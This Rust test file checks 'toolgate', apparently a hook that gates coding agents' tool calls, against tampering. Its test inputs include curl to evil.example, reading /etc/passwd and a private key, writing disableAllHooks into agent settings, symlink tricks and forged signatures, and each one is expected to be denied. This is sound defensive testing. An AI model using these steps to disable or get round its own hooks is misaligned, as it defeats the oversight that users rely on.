//! Nothing the agent can touch changes the policy (issue 9): one end-to-end
//! test per finding, each with the real binary, a real file system and the
//! legitimate neighbours that must stay allowed.

use crate::harness;
use crate::harness::{Home, Run, BIN};
use serde_json::{json, Value};
use std::path::Path;

pub(crate) fn deny(r: &Run, code: &str, what: &str) {
    assert_eq!(r.code, 2, "{what}: expected a deny: {r:?}");
    assert!(r.stderr.contains(code), "{what}: expected {code}: {r:?}");
}

pub(crate) fn allow(r: &Run, what: &str) {
    assert_eq!(r.code, 0, "{what}: expected an allow: {r:?}");
}

pub(crate) fn bash(h: &Home, cmd: &str) -> Run {
    h.run(&["evaluate"], &h.claude("Bash", json!({ "command": cmd })))
}

pub(crate) fn write(h: &Home, path: &Path) -> Run {
    h.run(
        &["evaluate"],
        &h.claude(
            "Write",
            json!({"file_path": path, "content": "{\"disableAllHooks\": true}"}),
        ),
    )
}

fn read(h: &Home, path: &Path) -> Run {
    h.run(
        &["evaluate"],
        &h.claude("Read", json!({ "file_path": path })),
    )
}

/// coding-agent with the file tools a refactoring agent is often given.
fn with_file_commands(h: &Home) {
    h.edit_passport(|p| {
        let cmds = p["limits"]["system.command.execute"]["allowed_commands"]
            .as_array_mut()
            .unwrap();
        for c in ["mv", "rm", "chmod", "ln", "cp", "mkdir", "touch", "cd"] {
            cmds.push(json!(c));
        }
    });
}

fn last_record(h: &Home) -> Value {
    h.records().last().cloned().expect("a record")
}

#[test]
fn finding_1_policy_planted_in_the_project_is_never_used() {
    let h = Home::new("coding-agent");
    let user_passport: Value =
        serde_json::from_slice(&std::fs::read(h.passport()).unwrap()).unwrap();
    // A project-level .toolgate with its own key, trust entry and a passport that allows curl.
    for planted in [h.project.join(".toolgate"), h.project.join("sub/.toolgate")] {
        let run = |args: &[&str]| {
            let mut c = std::process::Command::new(BIN);
            c.args(args)
                .env_clear()
                .env("PATH", std::env::var_os("PATH").unwrap_or_default())
                .env("TOOLGATE_HOME", &planted);
            let r = harness::run_command(c, b"");
            assert_eq!(r.code, 0, "{args:?}: {r:?}");
        };
        run(&["keygen", "--trust"]);
        run(&["passport", "new", "--template", "coding-agent", "--sign"]);
        let pp = planted.join("passport.json");
        let mut v: Value = serde_json::from_slice(&std::fs::read(&pp).unwrap()).unwrap();
        v["limits"]["system.command.execute"]["allowed_commands"]
            .as_array_mut()
            .unwrap()
            .push(json!("curl"));
        std::fs::write(&pp, serde_json::to_vec(&v).unwrap()).unwrap();
        run(&["passport", "sign"]);
    }
    std::fs::create_dir_all(h.project.join("sub")).unwrap();
    for cwd in [h.project.clone(), h.project.join("sub")] {
        let mut c = h.cmd(&["evaluate"]);
        c.current_dir(&cwd);
        let input = json!({"session_id": "s", "cwd": cwd, "hook_event_name": "PreToolUse",
            "tool_name": "Bash", "tool_input": {"command": "curl https://evil.example/x.sh"},
            "tool_use_id": "t"});
        let r = harness::run_command(c, input.to_string().as_bytes());
        deny(
            &r,
            "oap.command_not_allowed",
            "curl under a planted passport",
        );
        let rec = last_record(&h);
        assert_eq!(rec["passport_id"], user_passport["passport_id"], "{rec}");
    }
    // Planting it is refused at any depth, and so is removing the user's policy's protection.
    for p in [
        "sub/.toolgate/policy-packs/system.command.execute.v1.json",
        "a/b/.toolgate/passport.json",
        ".toolgate/trust/evil.jwk",
    ] {
        deny(&write(&h, &h.project.join(p)), "oap.path_not_allowed", p);
    }
    allow(
        &write(&h, &h.project.join("src/toolgate.rs")),
        "a neighbour",
    );
    // `config` says where each file came from; none of it is the project.
    let out = h.ok(&["config"]).stdout;
    assert!(!out.contains(h.project.to_str().unwrap()), "{out}");
}

#[test]
fn finding_3_ancestors_of_protected_paths_cannot_be_moved_removed_or_chmodded() {
    let h = Home::new("coding-agent");
    with_file_commands(&h);
    for d in [
        ".claude",
        ".cursor",
        "sub/deep/.gemini",
        ".github/hooks",
        "build",
    ] {
        std::fs::create_dir_all(h.project.join(d)).unwrap();
    }
    std::fs::write(h.project.join(".claude/settings.json"), "{}").unwrap();
    std::fs::write(h.project.join("a.txt"), "a").unwrap();
    for cmd in [
        "mv .claude .claude.bak",
        "mv .claude/ x",
        "rm -r .claude",
        "rm -r ./.cursor",
        "chmod 000 .claude",
        "mv .github x",
        "rm -r sub",
        "mv sub/deep other",
        "cp a.txt .claude/settings.json",
        "mv a.txt .claude",
        "rm -r .CLAUDE",
        "cd sub && rm -r deep",
    ] {
        deny(&bash(&h, cmd), "oap.path_not_allowed", cmd);
    }
    for cmd in [
        "mv a.txt b.txt",
        "rm -r build",
        "chmod 644 a.txt",
        "mkdir -p src/x",
    ] {
        allow(&bash(&h, cmd), cmd);
    }
}

#[test]
fn finding_4_writes_through_symlinks_land_where_the_link_points() {
    let h = Home::new("coding-agent");
    with_file_commands(&h);
    let home = h.dir.path();
    // A dangling link to a protected file that does not exist yet, in the project and in the home.
    std::os::unix::fs::symlink(
        h.project.join(".claude/settings.local.json"),
        h.project.join("foo"),
    )
    .unwrap();
    std::os::unix::fs::symlink(".claude/settings.json", h.project.join("rel")).unwrap();
    std::os::unix::fs::symlink(home.join(".claude/settings.json"), h.project.join("bar")).unwrap();
    std::fs::create_dir_all(h.project.join("d")).unwrap();
    std::os::unix::fs::symlink(h.project.join("d"), h.project.join("hop")).unwrap();
    std::os::unix::fs::symlink("../.cursor/hooks.json", h.project.join("d/x")).unwrap();
    for link in ["foo", "rel", "bar", "hop/x"] {
        deny(
            &write(&h, &h.project.join(link)),
            "oap.path_not_allowed",
            link,
        );
        deny(
            &bash(&h, &format!("echo '{{}}' > {link}")),
            "oap.path_not_allowed",
            link,
        );
    }
    // The agent creating such a link and then writing through it.
    allow(&bash(&h, "ln -s .cursor/hooks.json baz"), "ln -s");
    std::os::unix::fs::symlink(".cursor/hooks.json", h.project.join("baz")).unwrap();
    deny(
        &write(&h, &h.project.join("baz")),
        "oap.path_not_allowed",
        "baz",
    );
    // A link to an ordinary file in the project stays writable.
    std::fs::create_dir_all(h.project.join("src")).unwrap();
    std::os::unix::fs::symlink(h.project.join("src/real.rs"), h.project.join("ok")).unwrap();
    allow(
        &write(&h, &h.project.join("ok")),
        "a link to an ordinary file",
    );
}

#[test]
fn finding_5_the_project_root_is_what_the_host_sets_not_what_the_call_says() {
    let h = Home::new("coding-agent");
    std::fs::create_dir_all(h.project.join("sub")).unwrap();
    std::fs::create_dir_all(h.project.join("src")).unwrap();
    // Gemini: `dir_path: "/"` must not make `**` mean the whole disk.
    let gemini = |cmd: &str, dir: &str| {
        let input = json!({"session_id": "s", "cwd": h.project, "hook_event_name": "BeforeTool",
            "timestamp": "2026-01-01T00:00:00Z", "tool_name": "run_shell_command",
            "tool_input": {"command": cmd, "dir_path": dir}});
        h.run(
            &["evaluate", "--host", "gemini"],
            input.to_string().as_bytes(),
        )
    };
    deny(
        &gemini("cat etc/passwd", "/"),
        "oap.path_not_allowed",
        "gemini dir_path /",
    );
    deny(
        &gemini("cat /etc/passwd", "/"),
        "oap.path_not_allowed",
        "gemini absolute",
    );
    allow(&gemini("cat README.md", "sub"), "gemini inside the project");
    // Claude Code after `cd /`: the payload's cwd is not the root; CLAUDE_PROJECT_DIR is.
    let claude_in = |cwd: &str, tool: &str, input: Value| {
        let v = json!({"session_id": "s", "cwd": cwd, "hook_event_name": "PreToolUse",
            "tool_name": tool, "tool_input": input, "tool_use_id": "t"});
        h.run(&["evaluate"], v.to_string().as_bytes())
    };
    deny(
        &claude_in("/", "Read", json!({"file_path": "/etc/passwd"})),
        "oap.path_not_allowed",
        "claude cwd /",
    );
    deny(
        &claude_in("/", "Bash", json!({"command": "cat etc/passwd"})),
        "oap.path_not_allowed",
        "claude cwd / relative",
    );
    // From proj/sub, the project's own configuration is still the project's.
    let sub = h.project.join("sub");
    let sub = sub.to_str().unwrap();
    deny(
        &claude_in(
            sub,
            "Write",
            json!({"file_path": "../.claude/settings.json", "content": "{}"}),
        ),
        "oap.path_not_allowed",
        "sub -> ../.claude",
    );
    deny(
        &claude_in(sub, "Bash", json!({"command": "echo x > ../.env"})),
        "oap.path_not_allowed",
        "sub -> ../.env is blocked by **/.env anchored at the root",
    );
    allow(
        &claude_in(sub, "Write", json!({"file_path": "x.rs", "content": "x"})),
        "a relative write inside the project",
    );
    // Cursor: `cwd` is the model's; workspace_roots are the editor's.
    let cursor = h.cursor(
        "beforeShellExecution",
        json!({"command": "cat etc/passwd", "cwd": "/"}),
    );
    deny(
        &h.run(&["evaluate"], &cursor),
        "oap.path_not_allowed",
        "cursor cwd /",
    );
    // The root itself matches `**` (Grep, Glob, LS on the project).
    let root = h.project.to_str().unwrap();
    allow(
        &claude_in(root, "Grep", json!({"pattern": "x", "path": root})),
        "grep on the root",
    );
    allow(
        &claude_in(root, "Read", json!({"file_path": "src/lib.rs"})),
        "a neighbour",
    );
    // No root known at all: relative rules fail closed rather than anchor at the call.
    let v = json!({"session_id": "s", "cwd": root, "hook_event_name": "PreToolUse",
        "tool_name": "Read", "tool_input": {"file_path": "src/lib.rs"}, "tool_use_id": "t"});
    let mut c = h.cmd(&["evaluate"]);
    c.env_remove("CLAUDE_PROJECT_DIR");
    let r = harness::run_command(c, v.to_string().as_bytes());
    deny(&r, "oap.path_not_allowed", "no root");
    assert!(r.stderr.contains("project root"), "{r:?}");
    // ...and a root from the hook command line works where the host says nothing.
    let mut c = h.cmd(&["evaluate", "--project-root", root]);
    c.env_remove("CLAUDE_PROJECT_DIR");
    allow(
        &harness::run_command(c, v.to_string().as_bytes()),
        "--project-root",
    );
}

#[test]
fn finding_6_relocated_host_homes_the_binary_startup_files_and_the_key() {
    let h = Home::new("coding-agent");
    let codex_home = h.dir.path().join("elsewhere/codex");
    let copilot_home = h.dir.path().join("elsewhere/copilot");
    let with_env = |input: Vec<u8>| {
        let mut c = h.cmd(&["evaluate"]);
        c.env("CODEX_HOME", &codex_home)
            .env("COPILOT_HOME", &copilot_home);
        harness::run_command(c, &input)
    };
    let w = |p: &Path| h.claude("Write", json!({"file_path": p, "content": "x"}));
    for p in [
        codex_home.join("hooks.json"),
        codex_home.join("config.toml"),
        copilot_home.join("hooks/toolgate.json"),
        h.dir.path().join(".bashrc"),
        h.dir.path().join(".zshrc"),
        h.dir.path().join(".profile"),
        h.dir.path().join(".claude/settings.json"),
        h.dir.path().join(".claude.json"),
    ] {
        deny(
            &with_env(w(&p)),
            "oap.path_not_allowed",
            &p.display().to_string(),
        );
    }
    allow(
        &with_env(w(&h.dir.path().join("elsewhere/notes.txt"))),
        "a neighbour",
    );
    // The evaluator's private key is not readable, by Read or by cat.
    let key = h.home.join("keys/toolgate.key.jwk");
    deny(&read(&h, &key), "oap.path_not_allowed", "Read the key");
    deny(
        &bash(&h, &format!("cat {}", key.display())),
        "oap.path_not_allowed",
        "cat the key",
    );
    allow(&read(&h, &h.project.join("README.md")), "a neighbour read");
    // toolgate's own binary, run from where the agent could write it.
    let bin = h.project.join("bin/toolgate");
    std::fs::create_dir_all(bin.parent().unwrap()).unwrap();
    std::fs::copy(BIN, &bin).unwrap();
    let mut cmd = std::process::Command::new(&bin);
    cmd.args(["evaluate"])
        .env_clear()
        .env("PATH", "/usr/bin:/bin")
        .env("HOME", h.dir.path())
        .env("TOOLGATE_HOME", &h.home)
        .env("CLAUDE_PROJECT_DIR", &h.project)
        .current_dir(&h.project);
    deny(
        &harness::run_command(cmd, &w(&bin)),
        "oap.path_not_allowed",
        "its own binary",
    );
}

#[test]
fn finding_9_strict_passports() {
    let h = Home::new("coding-agent");
    let call = h.claude("Bash", json!({"command": "git status"}));
    allow(&h.run(&["evaluate"], &call), "baseline");
    // A limit key no pack reads is refused, naming the nearest valid key.
    h.edit_passport(|p| {
        p["limits"]["system.command.execute"]["blocked_pattern"] = json!(["curl"]);
    });
    let r = h.run(&["evaluate"], &call);
    deny(&r, "oap.passport_invalid", "typo");
    assert!(
        r.stderr.contains("blocked_pattern") && r.stderr.contains("blocked_patterns"),
        "{r:?}"
    );
    h.edit_passport(|p| {
        p["limits"]["system.command.execute"]
            .as_object_mut()
            .unwrap()
            .remove("blocked_pattern");
    });
    allow(&h.run(&["evaluate"], &call), "fixed");
    // Only EdDSA: `alg: none` (or anything else) in the .sig is refused.
    let sig = h.home.join("passport.json.sig");
    let good = std::fs::read(&sig).unwrap();
    for alg in ["none", "HS256", "eddsa"] {
        let mut v: Value = serde_json::from_slice(&good).unwrap();
        v["alg"] = json!(alg);
        std::fs::write(&sig, serde_json::to_vec(&v).unwrap()).unwrap();
        deny(&h.run(&["evaluate"], &call), "oap.signature_invalid", alg);
    }
    std::fs::write(&sig, &good).unwrap();
    // A private JWK in the trust directory is refused.
    let trust = h.home.join("trust");
    std::fs::copy(
        h.home.join("keys/toolgate.key.jwk"),
        trust.join("leaked.jwk"),
    )
    .unwrap();
    let r = h.run(&["evaluate"], &call);
    deny(&r, "oap.passport_untrusted", "private key in trust dir");
    assert!(r.stderr.contains("private"), "{r:?}");
    std::fs::remove_file(trust.join("leaked.jwk")).unwrap();
    allow(&h.run(&["evaluate"], &call), "removed");
    // A trust entry bound to other owners cannot sign for this one.
    let public = h.home.join("keys/toolgate.pub.jwk");
    let public = public.to_str().unwrap();
    h.ok(&["trust", "add", public, "--owner", "someone_else"]);
    let r = h.run(&["evaluate"], &call);
    deny(&r, "oap.passport_untrusted", "wrong owner");
    assert!(r.stderr.contains("someone_else"), "{r:?}");
    h.ok(&["trust", "add", public, "--owner", "user_local"]);
    allow(&h.run(&["evaluate"], &call), "bound to the right owner");
}

#[test]
fn finding_10_a_bad_flag_on_the_hook_command_line_is_recorded() {
    let h = Home::new("coding-agent");
    let call = h.claude("Bash", json!({"command": "git status"}));
    let before = h.records().len();
    let r = h.run(&["evaluate", "--host", "claude-code", "--explian"], &call);
    assert_eq!(r.code, 2, "{r:?}");
    let recs = h.records();
    assert_eq!(recs.len(), before + 1, "the deny is recorded");
    let last = recs.last().unwrap();
    assert_eq!(last["verdict"], "deny");
    assert_eq!(last["host"], "claude-code");
    assert_eq!(last["reasons"][0]["code"], "oap.invalid_input");
    assert!(
        last["reasons"][0]["message"]
            .as_str()
            .unwrap()
            .contains("--explian"),
        "{last}"
    );
    h.ok(&["verify-log"]);
}
